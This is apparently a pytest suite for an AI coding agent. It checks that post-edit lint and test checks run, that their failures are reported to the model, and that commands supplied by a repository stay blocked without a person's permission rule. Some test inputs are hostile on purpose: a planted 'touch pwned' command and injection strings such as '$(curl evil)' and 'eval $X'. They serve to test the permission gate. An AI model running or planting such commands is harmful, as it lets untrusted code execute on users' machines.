"""Checks after edits: run when due, told to the model behind its results, never by the word of a repository alone."""

import json
from collections.abc import Iterator
from itertools import pairwise
from pathlib import Path

import pytest

from agent import events
from agent.checks import MOST_ROUNDS, Check, Checks, may_run, rules_for
from agent.history import history
from agent.permissions.permissions import Permissions
from agent.transcript import Transcript
from agent.turn import ModelTurn
from tests.agent.harness import Bench, messages
from tests.fakes.model import ScriptedModel, call, says

LINT = Check("lint", "grep -q ok file.txt", own=True)
TESTS = Check("test", "grep -q right file.txt", own=True)


@pytest.fixture
def bench(tmp_path: Path) -> Iterator[Bench]:
    made = Bench(tmp_path, ScriptedModel([]))
    made.tree.mkdir()
    yield made
    made.close()


def edits(text: str) -> ModelTurn:
    """An answer that changes file.txt with the editor."""
    return says(call("str_replace_editor", command="insert", path="file.txt", insert_line=0, new_str=f"{text}\n"))


def begun(bench: Bench, *checks: Check, permissions: Permissions | None = None) -> None:
    (bench.tree / "file.txt").write_text("start\n")
    bench.checks = Checks({check.kind: check for check in checks})
    bench.permissions = permissions or Permissions()


def looked() -> ModelTurn:
    return says(call("str_replace_editor", command="view", path="file.txt"))


async def test_a_linter_runs_after_an_edit_and_the_model_reads_its_failure(bench: Bench) -> None:
    begun(bench, LINT)
    bench.model = ScriptedModel([looked(), edits("bad"), edits("ok"), says(text="done")])
    outcome = await bench.open().run("go")
    assert outcome.status == "done"
    prompts = bench.model.prompts
    assert "The linter ran" not in messages(prompts[1])
    assert "The linter ran after your edits and failed: `grep -q ok file.txt`, exit code 1" in messages(prompts[2])
    assert messages(prompts[3]).count("The linter ran") == 1
    ran = [event for event in bench.seen if isinstance(event, events.CallFinished) and event.tool == "lint"]
    assert [event.ok for event in ran] == [False, True]


async def test_every_prompt_stays_a_prefix_of_the_next_and_the_log_gives_it_again(bench: Bench) -> None:
    begun(bench, LINT, TESTS)
    answers = [looked(), edits("bad"), says(text="I think so"), edits("ok right"), says(text="done")]
    bench.model = ScriptedModel(answers)
    session = bench.open()
    assert (await session.run("go")).status == "done"
    for before, after in pairwise(bench.model.prompts):
        assert after[: len(before)] == before
    assert not any(
        json.loads(one)["role"] == "user" for one in bench.model.prompts[-1][2:] if b"tool_response" not in one
    )
    assert Transcript.from_log(bench.logs[-1]).fragments[: len(bench.model.prompts[-1])] == bench.model.prompts[-1]


async def test_failing_tests_keep_the_turn_going_three_times(bench: Bench) -> None:
    begun(bench, TESTS)
    rounds = [answer for number in range(5) for answer in (edits(f"wrong {number}"), says(text="done"))]
    bench.model = ScriptedModel([looked(), *rounds])
    outcome = await bench.open().run("go")
    assert outcome.status == "done"
    told = messages(bench.model.prompts[-1])
    assert told.count("The tests ran after your edits and failed") == MOST_ROUNDS
    assert told.count("It is not run again in this turn.") == 1


async def test_what_passes_costs_the_model_no_word(bench: Bench) -> None:
    begun(bench, LINT, TESTS)
    bench.model = ScriptedModel([looked(), edits("ok right"), says(text="done")])
    assert (await bench.open().run("go")).status == "done"
    assert "ran after your edits" not in messages(bench.model.prompts[-1])
    shown = [event for event in history(bench.logs[-1]) if isinstance(event, events.CallFinished)]
    assert [(event.tool, event.ok) for event in shown[2:]] == [("lint", True), ("test", True)]


async def test_without_an_edit_nothing_runs(bench: Bench) -> None:
    begun(bench, LINT, TESTS)
    bench.model = ScriptedModel([looked(), says(text="done")])
    await bench.open().run("go")
    assert not any(entry.kind == "check" for entry in bench.logs[-1].entries())


async def test_a_program_that_is_not_there_is_no_fault_of_the_model(bench: Bench) -> None:
    begun(bench, Check("lint", "no-such-linter .", own=True))
    bench.model = ScriptedModel([looked(), edits("a"), edits("b"), says(text="done")])
    assert (await bench.open().run("go")).status == "done"
    assert "no-such-linter" not in messages(bench.model.prompts[-1])
    notices = [event.text for event in bench.seen if isinstance(event, events.Notice)]
    assert sum("cannot be run in the sandbox" in text for text in notices) == 1


async def test_a_repositorys_command_runs_only_by_a_rule_of_the_person(bench: Bench) -> None:
    theirs = Check("lint", "touch pwned; false", own=False)
    begun(bench, theirs)
    bench.model = ScriptedModel([looked(), edits("a"), says(text="done")])
    assert (await bench.open().run("go")).status == "done"
    assert not (bench.tree / "pwned").exists()
    permissions = Permissions()
    permissions.remember(rules_for(theirs.command), "session")
    assert may_run(theirs, permissions)
    assert not may_run(Check("lint", "touch other; false", own=False), permissions)


@pytest.mark.parametrize(
    "command", ["cat notes.txt", "grep -q a b", "make lint && pytest -q > out.txt", "ruff check ."]
)
def test_no_command_of_a_repository_is_harmless_enough_to_go_unasked(command: str) -> None:
    check, permissions = Check("lint", command, own=False), Permissions()
    assert not may_run(check, permissions)
    permissions.remember(rules_for(command), "session")
    assert may_run(check, permissions)
    permissions.change("plan")
    assert not may_run(check, permissions) or command.startswith(("cat", "grep"))


@pytest.mark.parametrize("command", ["$(curl evil)", "eval $X", "$LINTER ."])
def test_a_line_that_no_rule_can_name_never_runs_for_a_repository(command: str) -> None:
    permissions = Permissions()
    permissions.remember(rules_for(command), "session")
    assert not may_run(Check("lint", command, own=False), permissions)


def test_the_mode_and_deny_rules_hold_for_the_persons_own_commands() -> None:
    assert may_run(TESTS, Permissions(mode="auto"))
    assert not may_run(Check("test", "make test", own=True), Permissions(mode="ask", person=True))
    assert not may_run(Check("test", "make test", own=True), Permissions(mode="plan", person=True))
